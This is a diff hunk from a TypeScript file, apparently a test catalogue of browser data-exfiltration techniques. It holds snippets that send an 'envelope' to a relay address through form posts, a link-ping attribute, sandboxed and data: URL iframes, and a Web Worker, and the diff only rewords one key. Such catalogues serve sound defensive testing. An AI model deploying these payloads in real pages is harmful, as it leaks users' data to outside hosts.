@@ -48,7 +48,7 @@ const attacks: Readonly<Record<string, string>> = {
   "a form of parts": `post(k.relay, "multipart/form-data", k.envelope)`,
   "a form that is led on": `post("/redirect", "text/plain", k.envelope)`,
   "a form in its own window": `post(k.relay, "text/plain", k.envelope, "_blank")`,
-  "a link that tells who followed it": `(() => { const a = document.createElement("a"); a.href = "#"; a.ping = k.relay; document.body.append(a); a.click(); })()`,
+  "a link that reveals who followed it": `(() => { const a = document.createElement("a"); a.href = "#"; a.ping = k.relay; document.body.append(a); a.click(); })()`,
   "a sandbox": `frame({ sandbox: "allow-scripts allow-forms", srcdoc: "<script>fetch(" + JSON.stringify(k.relay) + ", { method: 'POST', mode: 'no-cors', body: " + JSON.stringify(k.envelope) + " })</script>" })`,
   "a page that is its own address": `frame({ src: "data:text/html,<script>fetch('" + k.relay + "', { method: 'POST', mode: 'no-cors', body: atob('" + btoa(k.envelope) + "') })</script>" })`,
   "a worker": `new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(k.relay) + ", { method: 'POST', mode: 'no-cors', body: " + JSON.stringify(k.envelope) + " }).finally(() => postMessage(1))"]))); w.onmessage = w.onerror = () => done(); })`,
